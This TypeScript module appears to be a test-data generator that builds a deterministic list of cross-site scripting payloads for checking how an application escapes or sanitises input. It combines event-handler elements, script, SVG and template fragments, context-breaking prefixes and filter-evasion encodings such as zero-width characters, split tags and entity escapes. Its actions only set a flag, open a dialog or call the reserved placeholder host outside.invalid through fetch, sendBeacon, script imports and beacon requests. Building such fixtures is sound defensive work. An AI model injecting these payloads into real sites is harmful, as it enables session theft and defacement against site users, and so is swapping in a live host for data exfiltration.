import { createRandom } from '../../shared/domain/synthetic/random.ts';

/** What a payload does where one runs: a flag on the window, a dialog, or a request to a host that is no host. */
const ACTIONS = [
  'window.cercleInjected=true',
  'alert(1)',
  'confirm`1`',
  "fetch('https://outside.invalid/f')",
  "new Image().src='//outside.invalid/i'",
  "location='https://outside.invalid/l'",
  "import('https://outside.invalid/m.js')",
  "navigator.sendBeacon('https://outside.invalid/b')",
] as const;

/** Elements that run a handler by themselves or at the first movement of the mouse. */
const ELEMENTS = [
  'img src=x',
  'image src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'iframe',
  'object data=x',
  'marquee',
  'x tabindex=1 autofocus',
] as const;

const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onpointerenter'] as const;

/** Whole fragments; `%` is what they run. */
const FRAGMENTS = [
  '<script>%</script>',
  '<script src=//outside.invalid/s.js></script>',
  '<scr<script>ipt>%</scr</script>ipt>',
  '<svg><script>%</script></svg>',
  '<svg><script href="data:text/javascript,%"/></svg>',
  '<svg><animate onbegin="%" attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:%">',
  '<svg><use href="https://outside.invalid/u.svg#a"/></svg>',
  '<svg><image href="https://outside.invalid/i.svg"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>%</script>"></foreignObject></svg>',
  '<math><mtext><style><img src=x onerror="%"></style></mtext></math>',
  '<a href="javascript:%" autofocus>a</a>',
  '<iframe src="javascript:%"></iframe>',
  '<iframe srcdoc="<script>%</script>"></iframe>',
  '<object data="javascript:%"></object>',
  '<embed src="data:text/html,<script>%</script>">',
  '<form action="javascript:%"><button autofocus>b</button></form>',
  '<meta http-equiv=refresh content="0;url=https://outside.invalid/r">',
  '<link rel=stylesheet href=https://outside.invalid/c.css>',
  '<link rel=prefetch href=https://outside.invalid/p>',
  '<style>@import "https://outside.invalid/c.css";</style>',
  '<b style="background:url(https://outside.invalid/b.png)">b</b>',
  '<base href=https://outside.invalid/>',
  '<img srcset="https://outside.invalid/a.png 2x">',
  '<template shadowrootmode=open><script>%</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '{{constructor.constructor("%")()}}',
  '${%}',
  'javascript:%',
  'data:text/html,<script>%</script>',
] as const;

/** What closes the place where a text could stand. */
const ESCAPES = ['', '">', "'>", '</textarea>', '</title>', ']]>', '-->', '</script>', '</style>', '`>', '*/'] as const;

const QUOTES = ['', '"', "'", '`'] as const;

/** The same code or markup written otherwise. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/gu, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll('=', '&#61;').replaceAll('(', '&lpar;'),
  (text) => text.replace(/[<>"']/gu, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/[<>]/gu, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replace('javascript:', 'java\u00adscript:').replaceAll('script', 's\u200bcript'),
  (text) => `\u202e${text}\u2069\u200f`,
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
];

/**
 * Texts of HTML, SVG and JavaScript that would run or send something wherever the page took one as more than text: handlers on
 * elements, half of them, and whole fragments, each closed, quoted and encoded in its own way. The same in every run.
 */
export function payloads(count: number, seed = 9): readonly string[] {
  const random = createRandom(seed);
  const made = new Set<string>();
  while (made.size < count) {
    const action = random.pick(ACTIONS);
    const quote = random.pick(QUOTES);
    const handled = `<${random.pick(ELEMENTS)} ${random.pick(HANDLERS)}=${quote}${action}${quote}>`;
    const markup = made.size % 2 === 0 ? handled : random.pick(FRAGMENTS).replace('%', () => action);
    made.add(`${random.pick(ESCAPES)}${random.pick(ENCODINGS)(markup)}`);
  }
  return [...made];
}
